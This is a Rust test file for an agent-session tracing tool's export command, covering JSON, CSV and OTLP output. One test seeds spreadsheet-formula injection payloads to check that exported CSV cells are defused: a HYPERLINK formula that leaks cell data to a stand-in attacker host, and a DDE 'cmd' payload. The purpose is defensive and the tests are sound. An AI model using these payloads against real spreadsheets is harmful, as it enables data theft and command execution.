//! `export`: JSON, NDJSON and CSV through the binary (decoded, compared with the store), and
//! the OTLP mapping: spans, durations, parents, error status, pairing, deterministic ids,
//! GenAI names and usage, subagents under the call that spawned them.

use std::collections::{HashMap, HashSet};

use serde_json::{Value, json};

use agent_strace::model::Tokens;

use crate::common::session::T0;
use crate::common::{SessionBuilder, TestEnv};

/// A session with a prompt, a Bash call that worked (2.5 s), an Edit that failed (0.5 s), a
/// model response with cached tokens, and an answer.
fn a_session(env: &TestEnv, id: &str) -> String {
    a_session_in(&env.store(), id)
}

/// [`a_session`] written into the store at `store`.
fn a_session_in(store: &std::path::Path, id: &str) -> String {
    SessionBuilder::new(id)
        .meta(|m| m.agent_name = "claude-code".into())
        .session_start(json!({"source": "startup", "model": "claude-sonnet-4-5"}))
        .at(0.5)
        .prompt("say \"hi\", then\nfix the tests")
        .at(1.0)
        .tool_call("Bash", json!({"command": "cargo test"}))
        .at(3.5)
        .result(json!("ok, 3 passed"))
        .at(4.0)
        .tool_call(
            "Edit",
            json!({"file_path": "src/a.rs", "old_string": "x", "new_string": "y"}),
        )
        .at(4.5)
        .error("String to replace not found in file.\nString: x")
        .at(6.0)
        .llm_response(
            "claude-sonnet-4-5",
            Tokens {
                input: 3,
                output: 40,
                cache_creation: 100,
                cache_read: 2000,
                ..Tokens::default()
            },
        )
        .at(6.5)
        .answer("done")
        .session_end(json!({"reason": "exit"}))
        .write_in(store)
}

fn export(env: &TestEnv, args: &[&str]) -> crate::common::Run {
    let mut all = vec!["export"];
    all.extend_from_slice(args);
    env.run(&all)
}

#[test]
fn json_holds_the_metadata_and_every_event_as_the_store_does() {
    let env = TestEnv::new();
    let id = a_session(&env, "sess-json");
    let out = export(&env, &["--format", "json"]).success().json();
    assert_eq!(out["session"]["session_id"], id);
    assert_eq!(out["session"]["agent_name"], "claude-code");
    let events = out["events"].as_array().unwrap();
    assert_eq!(events, &env.events(&id));
    assert_eq!(out["subagents"], json!([]));
}

#[test]
fn ndjson_is_the_store_events_line_for_line() {
    let env = TestEnv::new();
    let id = a_session(&env, "sess-ndjson");
    let run = export(&env, &["sess-nd", "--format", "ndjson"])
        .success()
        .stdout
        .clone();
    let lines: Vec<Value> = run
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines, env.events(&id));
}

/// Parses RFC 4180 CSV: quoted fields may hold commas, doubled quotes and line breaks.
pub(crate) fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\r') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (_, c) => field.push(c),
        }
    }
    rows
}

#[test]
fn csv_has_one_row_per_event_with_stable_columns_and_rfc_4180_quoting() {
    let env = TestEnv::new();
    let id = a_session(&env, "sess-csv");
    let path = env.path().join("events.csv");
    let run = export(
        &env,
        &["--format", "csv", "--output", path.to_str().unwrap()],
    );
    run.success();
    assert!(run.stdout.is_empty(), "{}", run.stdout);
    let text = std::fs::read_to_string(&path).unwrap();
    assert!(text.contains("\r\n"), "CRLF line ends");
    let rows = parse_csv(&text);
    let header = &rows[0];
    assert_eq!(header[0], "session_id");
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let events = env.events(&id);
    assert_eq!(rows.len(), events.len() + 1);
    for (row, event) in rows[1..].iter().zip(&events) {
        assert_eq!(row.len(), header.len());
        assert_eq!(row[col("event_id")], event["event_id"].as_str().unwrap());
        assert_eq!(
            row[col("event_type")],
            event["event_type"].as_str().unwrap()
        );
    }
    let by_type = |t: &str| {
        rows[1..]
            .iter()
            .find(|r| r[col("event_type")] == t)
            .unwrap()
    };
    assert_eq!(
        by_type("user_prompt")[col("text")],
        "say \"hi\", then\nfix the tests"
    );
    let error = by_type("error");
    assert_eq!(error[col("tool")], "Edit");
    assert_eq!(error[col("outcome")], "failed");
    assert!(error[col("error")].starts_with("String to replace not found"));
    assert_eq!(by_type("tool_call")[col("command")], "cargo test");
    let llm = by_type("llm_response");
    assert_eq!(llm[col("input_tokens")], "3");
    assert_eq!(llm[col("cache_read_tokens")], "2000");
    assert!(by_type("session_start")[col("time")].ends_with('Z'));
}

/// A prompt or command that a spreadsheet would run as a formula (CSV injection) is written as
/// text, with a `'` before it; numbers, negative ones too, stay numbers; a file written with
/// `--output` holds the session's bytes as they are (an ESC included), only quoted. Before, the
/// cells were written as recorded, and `=HYPERLINK(…)` ran when the file was opened; and then
/// one after spaces, or with a full-width `＝`, was still written as it was.
#[test]
fn csv_cells_a_spreadsheet_would_run_are_kept_text() {
    let env = TestEnv::new();
    let id = SessionBuilder::new("sess-formula")
        .meta(|m| m.agent_name = "claude-code".into())
        .prompt("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")
        .at(1.0)
        .tool_call("Bash", json!({"command": "-rf /tmp/x"}))
        .at(2.0)
        .tool_call("Bash", json!({"command": "@SUM(1+1)*cmd|' /C calc'!A0"}))
        .at(3.0)
        .answer("+1 \u{1b}[31mred")
        .at(4.0)
        .tool_call("Bash", json!({"command": "  =cmd|' /C calc'!A0"}))
        .at(5.0)
        .tool_call(
            "Bash",
            json!({"command": "\u{ff1d}HYPERLINK(\"http://evil.example\")"}),
        )
        .at(6.0)
        .tool_call("Bash", json!({"command": " -3 "}))
        .write(&env);
    let path = env.path().join("events.csv");
    export(
        &env,
        &[&id, "--format", "csv", "--output", path.to_str().unwrap()],
    )
    .success();
    let text = std::fs::read_to_string(&path).unwrap();
    let rows = parse_csv(&text);
    let col = |name: &str| rows[0].iter().position(|h| h == name).unwrap();
    let cells: Vec<&str> = rows[1..]
        .iter()
        .flat_map(|r| [r[col("text")].as_str(), r[col("command")].as_str()])
        .filter(|c| !c.is_empty())
        .collect();
    assert_eq!(
        cells,
        [
            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "'-rf /tmp/x",
            "'@SUM(1+1)*cmd|' /C calc'!A0",
            "'+1 \u{1b}[31mred",
            "'  =cmd|' /C calc'!A0",
            "'\u{ff1d}HYPERLINK(\"http://evil.example\")",
            " -3 ",
        ],
        "{text}"
    );
    // No cell of the file starts with what a spreadsheet runs, quoted or not.
    for row in &rows {
        for cell in row {
            let starts = [
                '=', '+', '-', '@', '\t', '\r', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
            ];
            let trimmed = cell.trim_start();
            let runs = (cell.starts_with(starts) || trimmed.starts_with(starts))
                && trimmed.trim_end().parse::<f64>().is_err();
            assert!(!runs, "{cell:?} in {text}");
        }
    }
    assert!(
        text.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1"),
        "quoted, with its quotes doubled: {text}"
    );
}

/// The spans of an OTLP/JSON export, by name.
pub(crate) fn spans(export: &Value) -> Vec<Value> {
    export["resourceSpans"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|r| r["scopeSpans"].as_array().unwrap())
        .flat_map(|s| s["spans"].as_array().unwrap().clone())
        .collect()
}

pub(crate) fn attr(span: &Value, key: &str) -> Option<Value> {
    span["attributes"]
        .as_array()?
        .iter()
        .find(|a| a["key"] == key)
        .map(|a| {
            let v = &a["value"];
            v.get("stringValue")
                .or_else(|| v.get("intValue"))
                .or_else(|| v.get("doubleValue"))
                .cloned()
                .unwrap_or(Value::Null)
        })
}

fn nanos(span: &Value, key: &str) -> u64 {
    span[key].as_str().unwrap().parse().unwrap()
}

fn seconds(span: &Value) -> f64 {
    (nanos(span, "endTimeUnixNano") - nanos(span, "startTimeUnixNano")) as f64 / 1e9
}

#[test]
fn otlp_makes_the_session_a_trace_and_each_call_a_span_until_its_result() {
    let env = TestEnv::new();
    let id = a_session(&env, "sess-otlp");
    let out = export(&env, &["--format", "otlp"]).success().json();
    let spans = spans(&out);
    assert_eq!(spans.len(), 3, "{spans:#?}");
    let root = &spans[0];
    let trace = root["traceId"].as_str().unwrap();
    assert_eq!(trace.len(), 32);
    assert_ne!(trace, "0".repeat(32));
    assert_eq!(root["parentSpanId"], "");
    assert_eq!(attr(root, "agent_strace.session.id"), Some(json!(id)));
    // Prompt and answer are events on the root span; without --content, no text.
    let names: Vec<&str> = root["events"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["name"].as_str().unwrap())
        .collect();
    assert!(
        names.contains(&"user_prompt") && names.contains(&"assistant_response"),
        "{names:?}"
    );
    assert!(!out.to_string().contains("fix the tests"));
    assert!((seconds(root) - 6.5).abs() < 1e-6, "{}", seconds(root));

    let by_name: HashMap<&str, &Value> = spans[1..]
        .iter()
        .map(|s| (s["name"].as_str().unwrap(), s))
        .collect();
    let bash = by_name["Bash"];
    let edit = by_name["Edit"];
    for span in [bash, edit] {
        assert_eq!(span["traceId"], trace);
        assert_eq!(span["parentSpanId"], root["spanId"]);
        assert_eq!(span["spanId"].as_str().unwrap().len(), 16);
    }
    assert!((seconds(bash) - 2.5).abs() < 1e-6);
    assert!((seconds(edit) - 0.5).abs() < 1e-6);
    assert_eq!(nanos(bash, "startTimeUnixNano"), ((T0 + 1.0) * 1e9) as u64);
    assert!(bash["status"].is_null() || bash["status"]["code"] == 0);
    assert_eq!(edit["status"]["code"], 2, "ERROR");
    assert_eq!(
        edit["status"]["message"],
        "String to replace not found in file."
    );
    let exception = &edit["events"][0];
    assert_eq!(exception["name"], "exception");
    assert_eq!(
        attr(exception, "exception.message"),
        Some(json!("String to replace not found in file."))
    );
    assert_eq!(
        attr(edit, "agent_strace.tool.outcome"),
        Some(json!("failed"))
    );
}

#[test]
fn ids_are_the_same_every_time_and_differ_between_sessions() {
    let env = TestEnv::new();
    a_session(&env, "sess-one");
    a_session(&env, "sess-two");
    let one = export(&env, &["sess-one", "--format", "otlp"])
        .success()
        .json();
    let again = export(&env, &["sess-one", "--format", "otlp"])
        .success()
        .json();
    let two = export(&env, &["sess-two", "--format", "otlp"])
        .success()
        .json();
    let ids = |v: &Value| -> Vec<(String, String)> {
        spans(v)
            .iter()
            .map(|s| {
                (
                    s["traceId"].as_str().unwrap().to_owned(),
                    s["spanId"].as_str().unwrap().to_owned(),
                )
            })
            .collect()
    };
    assert_eq!(ids(&one), ids(&again));
    assert_eq!(one, again, "the whole export is deterministic");
    let (a, b) = (ids(&one), ids(&two));
    assert_ne!(a[0].0, b[0].0, "another session, another trace");
    let distinct: std::collections::HashSet<&String> = a.iter().map(|(_, s)| s).collect();
    assert_eq!(distinct.len(), a.len(), "span ids are unique in a trace");
}

/// `otlp` and `otlp-genai` are two traces of one session: they gave their different spans the
/// same trace and span ids, so sent to one backend (Phoenix) one set overwrote or mixed with
/// the other. Each stays the same from one export to the next.
#[test]
fn the_two_otlp_vocabularies_share_no_id_and_each_keeps_its_own() {
    let env = TestEnv::new();
    a_session(&env, "sess-both");
    let ids = |format: &str| -> (HashSet<String>, HashSet<String>) {
        let out = export(&env, &["sess-both", "--format", format])
            .success()
            .json();
        let spans = spans(&out);
        let of = |key: &str| {
            spans
                .iter()
                .map(|s| s[key].as_str().unwrap().to_owned())
                .collect()
        };
        (of("traceId"), of("spanId"))
    };
    let (plain_traces, plain_spans) = ids("otlp");
    let (genai_traces, genai_spans) = ids("otlp-genai");
    assert!(plain_traces.is_disjoint(&genai_traces), "{plain_traces:?}");
    assert!(plain_spans.is_disjoint(&genai_spans), "{plain_spans:?}");
    assert_eq!(ids("otlp"), (plain_traces, plain_spans));
    assert_eq!(ids("otlp-genai"), (genai_traces, genai_spans));
}

#[test]
fn results_pair_with_their_calls_by_tool_use_id_when_they_name_no_parent() {
    let env = TestEnv::new();
    // Two calls in flight at once; results come back in the other order, linked only by id.
    let id = SessionBuilder::new("sess-pair")
        .meta(|m| m.agent_name = "claude-code".into())
        .event(
            agent_strace::model::EventType::ToolCall,
            json!({"tool_name": "Read", "tool_use_id": "toolu_A", "arguments": {"file_path": "a"}}),
        )
        .at(0.1)
        .event(
            agent_strace::model::EventType::ToolCall,
            json!({"tool_name": "Grep", "tool_use_id": "toolu_B", "arguments": {"pattern": "x"}}),
        )
        .at(1.0)
        .event(
            agent_strace::model::EventType::ToolResult,
            json!({"tool_name": "Grep", "tool_use_id": "toolu_B", "result": "none"}),
        )
        .at(3.0)
        .event(
            agent_strace::model::EventType::Error,
            json!({"tool_name": "Read", "tool_use_id": "toolu_A", "error": "no such file"}),
        )
        .write(&env);
    let out = export(&env, &[&id, "--format", "otlp"]).success().json();
    let spans = spans(&out);
    let read = spans.iter().find(|s| s["name"] == "Read").unwrap();
    let grep = spans.iter().find(|s| s["name"] == "Grep").unwrap();
    assert!((seconds(read) - 3.0).abs() < 1e-6, "{}", seconds(read));
    assert!((seconds(grep) - 0.9).abs() < 1e-6, "{}", seconds(grep));
    assert_eq!(read["status"]["code"], 2);
    assert!(grep["status"].is_null() || grep["status"]["code"] == 0);
}

#[test]
fn otlp_genai_follows_the_semantic_conventions() {
    let env = TestEnv::new();
    a_session(&env, "sess-genai");
    let out = export(
        &env,
        &["--format", "otlp-genai", "--service-name", "my-agents"],
    )
    .success()
    .json();
    let resource = &out["resourceSpans"][0];
    assert_eq!(
        resource["schemaUrl"],
        "https://opentelemetry.io/schemas/1.42.0"
    );
    assert_eq!(
        resource["scopeSpans"][0]["schemaUrl"],
        "https://opentelemetry.io/schemas/1.42.0"
    );
    assert_eq!(
        attr(&resource["resource"], "service.name"),
        Some(json!("my-agents"))
    );
    let spans = spans(&out);
    let names: Vec<&str> = spans.iter().map(|s| s["name"].as_str().unwrap()).collect();
    assert_eq!(
        names,
        [
            "invoke_agent claude-code",
            "execute_tool Bash",
            "execute_tool Edit",
            "chat claude-sonnet-4-5"
        ]
    );
    let root = &spans[0];
    assert_eq!(
        attr(root, "gen_ai.operation.name"),
        Some(json!("invoke_agent"))
    );
    assert_eq!(attr(root, "gen_ai.agent.id"), Some(json!("sess-genai")));
    assert_eq!(attr(root, "gen_ai.agent.name"), Some(json!("claude-code")));
    assert_eq!(attr(root, "gen_ai.provider.name"), Some(json!("anthropic")));
    assert_eq!(
        attr(root, "gen_ai.request.model"),
        Some(json!("claude-sonnet-4-5"))
    );
    let bash = &spans[1];
    assert_eq!(
        attr(bash, "gen_ai.operation.name"),
        Some(json!("execute_tool"))
    );
    assert_eq!(attr(bash, "gen_ai.tool.name"), Some(json!("Bash")));
    assert_eq!(
        attr(bash, "gen_ai.tool.call.arguments"),
        None,
        "opt-in only"
    );
    assert_eq!(attr(bash, "gen_ai.tool.call.result"), None, "opt-in only");
    assert_eq!(attr(&spans[2], "error.type"), Some(json!("_OTHER")));
    let chat = &spans[3];
    assert_eq!(chat["kind"], 3, "CLIENT");
    assert_eq!(attr(chat, "gen_ai.operation.name"), Some(json!("chat")));
    // Anthropic's input_tokens (3) leaves the cache out: 3 + 100 written + 2000 read.
    assert_eq!(attr(chat, "gen_ai.usage.input_tokens"), Some(json!("2103")));
    assert_eq!(attr(chat, "gen_ai.usage.output_tokens"), Some(json!("40")));
    assert_eq!(
        attr(chat, "gen_ai.usage.cache_read.input_tokens"),
        Some(json!("2000"))
    );
    assert_eq!(
        attr(chat, "gen_ai.usage.cache_creation.input_tokens"),
        Some(json!("100"))
    );

    let with = export(&env, &["--format", "otlp-genai", "--content"])
        .success()
        .json();
    let spans = crate::export::spans(&with);
    assert_eq!(
        attr(&spans[1], "gen_ai.tool.call.arguments"),
        Some(json!(r#"{"command":"cargo test"}"#))
    );
    assert_eq!(
        attr(&spans[1], "gen_ai.tool.call.result"),
        Some(json!("ok, 3 passed"))
    );
}

/// `otlp-genai --content` put the prompt and the answer under `gen_ai.content`, a name no GenAI
/// convention defines; they are the conventions' `gen_ai.input.messages` and
/// `gen_ai.output.messages`, JSON of their message structure.
#[test]
fn genai_content_is_the_conventions_input_and_output_messages() {
    let env = TestEnv::new();
    a_session(&env, "sess-messages");
    let out = export(&env, &["--format", "otlp-genai", "--content"])
        .success()
        .json();
    assert!(!out.to_string().contains("gen_ai.content"));
    let root = &spans(&out)[0];
    let event = |name: &str| {
        root["events"]
            .as_array()
            .unwrap()
            .iter()
            .find(|e| e["name"] == name)
            .unwrap()
            .clone()
    };
    let messages = |name: &str, key: &str| -> Value {
        serde_json::from_str(attr(&event(name), key).unwrap().as_str().unwrap()).unwrap()
    };
    assert_eq!(
        messages("user_prompt", "gen_ai.input.messages"),
        json!([{"role": "user", "parts": [{"type": "text", "content": "say \"hi\", then\nfix the tests"}]}])
    );
    assert_eq!(
        messages("assistant_response", "gen_ai.output.messages"),
        json!([{"role": "assistant", "parts": [{"type": "text", "content": "done"}]}])
    );
    // Opt-in, as the conventions say.
    let without = export(&env, &["--format", "otlp-genai"]).success().json();
    assert!(!without.to_string().contains("gen_ai.input.messages"));
}

#[test]
fn a_subagent_is_a_subtree_under_the_call_that_spawned_it() {
    let env = TestEnv::new();
    let parent = SessionBuilder::new("sess-parent")
        .meta(|m| m.agent_name = "claude-code".into())
        .tool_call(
            "Task",
            json!({"description": "look around", "prompt": "go"}),
        )
        .at(10.0)
        .result(json!("found it"))
        .write(&env);
    SessionBuilder::new("sess-child")
        .started(T0 + 1.0)
        .meta(|m| {
            m.agent_name = "claude-code".into();
            m.parent_session_id = Some(parent.clone());
            m.parent_event_id = Some("e01".into());
            m.depth = 1;
        })
        .tool_call("Grep", json!({"pattern": "x"}))
        .at(2.0)
        .result(json!("x"))
        .write(&env);
    let out = export(&env, &[&parent, "--format", "otlp-genai"])
        .success()
        .json();
    let spans = spans(&out);
    let names: Vec<&str> = spans.iter().map(|s| s["name"].as_str().unwrap()).collect();
    assert_eq!(
        names,
        [
            "invoke_agent claude-code",
            "execute_tool Task",
            "invoke_agent claude-code",
            "execute_tool Grep"
        ]
    );
    assert!(spans.iter().all(|s| s["traceId"] == spans[0]["traceId"]));
    assert_eq!(
        spans[2]["parentSpanId"], spans[1]["spanId"],
        "under the Task call"
    );
    assert_eq!(spans[3]["parentSpanId"], spans[2]["spanId"]);
    assert_eq!(
        attr(&spans[2], "gen_ai.agent.id"),
        Some(json!("sess-child"))
    );
    // The JSON export nests it too.
    let json = export(&env, &[&parent, "--format", "json"])
        .success()
        .json();
    assert_eq!(json["subagents"][0]["session"]["session_id"], "sess-child");
}

#[test]
fn misuse_is_a_usage_error_in_one_line() {
    let env = TestEnv::new();
    a_session(&env, "sess-misuse");
    let run = export(
        &env,
        &["--format", "json", "--endpoint", "http://127.0.0.1:9"],
    );
    assert_eq!(run.code, 2, "{run:?}");
    assert_eq!(run.stderr.lines().count(), 1, "{}", run.stderr);
    let run = export(
        &env,
        &[
            "--format",
            "otlp",
            "--endpoint",
            "http://127.0.0.1:9",
            "--header",
            "no colon",
        ],
    );
    assert_eq!(run.code, 2, "{run:?}");
    assert!(run.stderr.contains("--header"), "{}", run.stderr);
    let run = export(&env, &["--format", "otlp", "--endpoint", "ftp://x"]);
    assert_eq!(run.code, 2, "{run:?}");
    let run = export(&env, &["nosuchsession", "--format", "json"]);
    assert_eq!(run.code, 2, "{run:?}");
}

/// A malformed `--header` is named in its error, never quoted whole: its value is a token
/// (`Authorization=Bearer …` was echoed with the key), and one with a line break in it is
/// still one line (it split the error over two).
#[test]
fn a_malformed_header_is_named_without_its_value_on_one_line() {
    let env = TestEnv::new();
    a_session(&env, "sess-header");
    for (header, named) in [
        ("Authorization=Bearer sk-live-123", "`Authorization: ***`"),
        ("sk-live-123", "`***`"),
        (
            "Authorization: Bearer sk-live-123\r\nX: y",
            "`Authorization: ***`",
        ),
        ("Bad Name: Bearer sk-live-123", "`Bad Name: ***`"),
    ] {
        let run = export(
            &env,
            &[
                "--format",
                "otlp",
                "--endpoint",
                "https://otel.example.com",
                "--header",
                header,
            ],
        );
        assert_eq!(run.code, 2, "{header:?}: {run:?}");
        assert_eq!(run.stderr.lines().count(), 1, "{header:?}: {}", run.stderr);
        assert!(
            run.stderr.contains(named) && !run.stderr.contains("sk-live"),
            "{header:?}: {}",
            run.stderr
        );
    }
}

/// An output file inside the trace store is refused (exit 2, one line) by every command that
/// writes one, before anything is written: `export -o .agent-traces/<id>/events.ndjson`
/// replaced the session's events with CSV, exit 0, and the index could be replaced so too.
#[test]
fn an_output_file_inside_the_trace_store_is_refused() {
    let env = TestEnv::new();
    let id = a_session(&env, "sess-in-store");
    let events = env.store().join(&id).join("events.ndjson");
    let before = std::fs::read(&events).unwrap();
    std::fs::create_dir(env.path().join("x")).unwrap();
    let roundabout = format!("x/../.agent-traces/{id}/events.ndjson");
    let own = format!(".agent-traces/{id}/events.ndjson");
    let runs: Vec<Vec<&str>> = vec![
        vec!["export", &id, "--format", "csv", "-o", &own],
        vec!["export", &id, "--format", "json", "--output", &roundabout],
        vec![
            "export",
            &id,
            "--format",
            "csv",
            "-o",
            ".agent-traces/.index.sqlite",
        ],
        vec!["share", &id, "-o", &own],
        vec!["replay", &id, "--format", "html", "-o", &own],
        vec!["dashboard", "--html", ".agent-traces/index.html"],
    ];
    for args in runs {
        let run = env.run(&args);
        assert_eq!(run.code, 2, "{args:?}: {run:?}");
        assert_eq!(run.stderr.lines().count(), 1, "{args:?}: {}", run.stderr);
        assert!(
            run.stderr.contains("inside the trace store"),
            "{args:?}: {}",
            run.stderr
        );
        assert_eq!(std::fs::read(&events).unwrap(), before, "{args:?}");
    }
    assert!(!env.store().join("index.html").exists());
    // Beside the store is no store.
    let beside = env.path().join("x").join("events.csv");
    export(
        &env,
        &[&id, "--format", "csv", "-o", beside.to_str().unwrap()],
    )
    .success();
}

/// With `AGENT_STRACE_WORKSPACE` set, only the workspace's store was guarded: an output file in
/// the project's own store (`.agent-traces/<id>/events.ndjson`), in the store `--trace-dir`
/// names, or beside another store's index replaced what was there, exit 0. Any store or session
/// folder the output would land in is refused, whichever store the command reads.
#[test]
fn an_output_file_in_a_store_other_than_the_one_read_is_refused() {
    let env = TestEnv::new();
    let local = a_session(&env, "sess-local");
    let read = a_session_in(&crate::common::workspace_store(&env, "ws"), "sess-ws");
    let traces = env.path().join("traces");
    let other = a_session_in(&traces, "sess-other");
    a_session_in(&traces.join("workspaces").join("ws"), "sess-other-ws");
    // Reading the folder as a store (no workspace) leaves its index there.
    env.run(&["list", "--trace-dir", "traces"]).success();
    assert!(traces.join(".index.sqlite").is_file());
    let guarded = [
        env.store().join(&local).join("events.ndjson"),
        traces.join(&other).join("events.ndjson"),
        traces.join(".index.sqlite"),
    ];
    let before: Vec<Vec<u8>> = guarded.iter().map(|f| std::fs::read(f).unwrap()).collect();
    let in_workspace = |args: &[&str]| {
        let mut command = env.command(args);
        command.env("AGENT_STRACE_WORKSPACE", "ws");
        crate::common::Run::of(command.output().unwrap())
    };
    let local_events = format!(".agent-traces/{local}/events.ndjson");
    let other_events = format!("traces/{other}/events.ndjson");
    let runs: Vec<Vec<&str>> = vec![
        vec!["export", &read, "--format", "csv", "-o", &local_events],
        vec![
            "export",
            &read,
            "--format",
            "csv",
            "-o",
            ".agent-traces/x.csv",
        ],
        vec!["share", &read, "-o", &local_events],
        vec![
            "export",
            "--trace-dir",
            "traces",
            "sess-other-ws",
            "-o",
            &other_events,
        ],
        vec!["export", &read, "--format", "csv", "-o", &other_events],
        vec![
            "export",
            &read,
            "--format",
            "csv",
            "-o",
            "traces/.index.sqlite",
        ],
    ];
    for args in runs {
        let run = in_workspace(&args);
        assert_eq!(run.code, 2, "{args:?}: {run:?}");
        assert_eq!(run.stderr.lines().count(), 1, "{args:?}: {}", run.stderr);
        assert!(
            run.stderr.contains("inside the trace store"),
            "{args:?}: {}",
            run.stderr
        );
        for (file, was) in guarded.iter().zip(&before) {
            assert_eq!(
                &std::fs::read(file).unwrap(),
                was,
                "{args:?}: {}",
                file.display()
            );
        }
    }
    assert!(!env.store().join("x.csv").exists());
    // A folder beside the stores is no store.
    std::fs::create_dir(env.path().join("out")).unwrap();
    in_workspace(&["export", &read, "--format", "csv", "-o", "out/events.csv"]).success();
}

/// Session `id` begun by Claude Code's SessionStart hook, naming as its transcript a real
/// session of the corpus (marot__spotter's 258c7280), whose model calls the hooks never see.
fn hook_started_naming_a_corpus_transcript(env: &TestEnv, id: &str) {
    let transcript = crate::common::shared()
        .join("corpus/claude-code/marot__spotter/258c7280-ae70-4798-800f-63464d01a85d.jsonl");
    env.hook(
        "session-start",
        &json!({"session_id": id, "hook_event_name": "SessionStart",
                "source": "startup", "transcript_path": transcript, "cwd": env.path()}),
    )
    .success();
}

/// A hook-recorded session holds no usage (hooks never see it): its trace takes the model
/// calls from the transcript the session names, as `cost` prices them, and the JSON export
/// stays the store's events as they are.
#[test]
fn a_hook_sessions_trace_has_the_model_calls_its_transcript_logged() {
    let env = TestEnv::new();
    hook_started_naming_a_corpus_transcript(&env, "hook-usage");
    let cost = env
        .run(&["cost", "hook-usage", "--format", "json"])
        .success()
        .json();
    assert_eq!(cost["estimated"], false, "{cost}");

    let out = export(&env, &["hook-usage", "--format", "otlp-genai"])
        .success()
        .json();
    let chats: Vec<Value> = spans(&out)
        .into_iter()
        .filter(|s| s["name"].as_str().unwrap().starts_with("chat "))
        .collect();
    assert!(!chats.is_empty(), "no model calls in {out}");
    let sum = |key: &str| -> u64 {
        chats
            .iter()
            .map(|s| match attr(s, key) {
                Some(Value::String(n)) => n.parse::<u64>().unwrap(),
                Some(n) => n.as_u64().unwrap(),
                None => 0,
            })
            .sum()
    };
    let tokens = &cost["tokens"];
    assert_eq!(
        sum("gen_ai.usage.output_tokens"),
        tokens["output"].as_u64().unwrap()
    );
    assert_eq!(
        sum("gen_ai.usage.cache_read.input_tokens"),
        tokens["cache_read"].as_u64().unwrap()
    );
    let all_input = ["input", "cache_read", "cache_creation"]
        .iter()
        .map(|k| tokens[*k].as_u64().unwrap())
        .sum::<u64>();
    assert_eq!(sum("gen_ai.usage.input_tokens"), all_input);

    let json = export(&env, &["hook-usage", "--format", "json"])
        .success()
        .json();
    assert!(
        json["events"]
            .as_array()
            .unwrap()
            .iter()
            .all(|e| e["event_type"] != "llm_response"),
        "the JSON export is the store's events as they are"
    );
}

/// A hook session's trace, with the model calls its transcript logged, sorted its recorded
/// events by their own stamps: a call on a line with no time went after everything, its span
/// started at the time of the session's last event (its result's, 10 s later). It stands where
/// it stands in the file, at the time of the event before it, as in every other view.
#[test]
fn a_hook_sessions_trace_keeps_an_untimed_call_where_it_stands() {
    let env = TestEnv::new();
    hook_started_naming_a_corpus_transcript(&env, "untimed");
    let file = env.store().join("untimed").join("events.ndjson");
    let lines = std::fs::read_to_string(&file).unwrap();
    let start: Value = serde_json::from_str(lines.lines().next().unwrap()).unwrap();
    let started = start["timestamp"].as_f64().unwrap();
    let call = json!({"event_type": "tool_call", "event_id": "c1", "session_id": "untimed",
                      "data": {"tool_name": "Bash", "arguments": {"command": "ls"},
                               "tool_use_id": "t1"}});
    let result = json!({"event_type": "tool_result", "event_id": "r1", "session_id": "untimed",
                        "timestamp": started + 10.0, "parent_id": "c1",
                        "data": {"tool_name": "Bash", "result": "a", "tool_use_id": "t1"}});
    std::fs::write(&file, format!("{lines}{call}\n{result}\n")).unwrap();
    let out = export(&env, &["untimed", "--format", "otlp-genai"])
        .success()
        .json();
    let tool = spans(&out)
        .into_iter()
        .find(|s| s["name"] == "execute_tool Bash")
        .unwrap_or_else(|| panic!("no tool span in {out}"));
    let nanos = |key: &str| -> f64 {
        let v = &tool[key];
        v.as_str()
            .map_or_else(|| v.as_f64().unwrap(), |s| s.parse().unwrap())
    };
    let start_ns = nanos("startTimeUnixNano");
    assert!(
        (start_ns / 1e9 - started).abs() < 0.01,
        "the call's span starts at {} s, the session at {started} s: {tool}",
        start_ns / 1e9
    );
}

/// `export -o FILE` holds session content: it used to leave a private file (0600) it replaced
/// readable by all (0644), and one temporary name (`.FILE.agent-strace-sample`) that a killed
/// run left behind made every later export to that path fail with "File exists".
#[test]
fn an_exported_file_stays_private_and_a_killed_runs_leftovers_block_nothing() {
    use std::os::unix::fs::PermissionsExt;
    let env = TestEnv::new();
    let id = a_session(&env, "sess-private");
    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    let out = env.path().join("out.json");
    // What a run of before this fix left when killed.
    std::fs::write(env.path().join(".out.json.agent-strace-sample"), "partial").unwrap();
    std::fs::write(&out, "old").unwrap();
    std::fs::set_permissions(&out, std::fs::Permissions::from_mode(0o600)).unwrap();
    export(&env, &[&id, "--output", out.to_str().unwrap()]).success();
    assert_eq!(mode(&out), 0o600);
    assert!(
        std::fs::read_to_string(&out)
            .unwrap()
            .contains("sess-private")
    );
    std::fs::set_permissions(&out, std::fs::Permissions::from_mode(0o640)).unwrap();
    export(&env, &[&id, "--output", out.to_str().unwrap()]).success();
    assert_eq!(mode(&out), 0o640);
    let new = env.path().join("new.json");
    export(&env, &[&id, "--output", new.to_str().unwrap()]).success();
    assert_eq!(mode(&new), 0o600);

    // A run of this very process id killed before: its file and a link at the next name are
    // stepped over, the link's target never written. (exec keeps the shell's process id.)
    let victim = env.path().join("victim");
    std::fs::write(&victim, "mine").unwrap();
    let mut cmd = std::process::Command::new("sh");
    cmd.current_dir(env.path())
        .env("AGENT_STRACE_HOME", env.home())
        .args([
            "-c",
            r#"touch ".new.json.agent-strace-$$-0.tmp" && ln -s victim ".new.json.agent-strace-$$-1.tmp" && exec "$0" export "$1" --output new.json"#,
        ])
        .arg(crate::common::bin())
        .arg(&id);
    crate::common::Run::of(cmd.output().unwrap()).success();
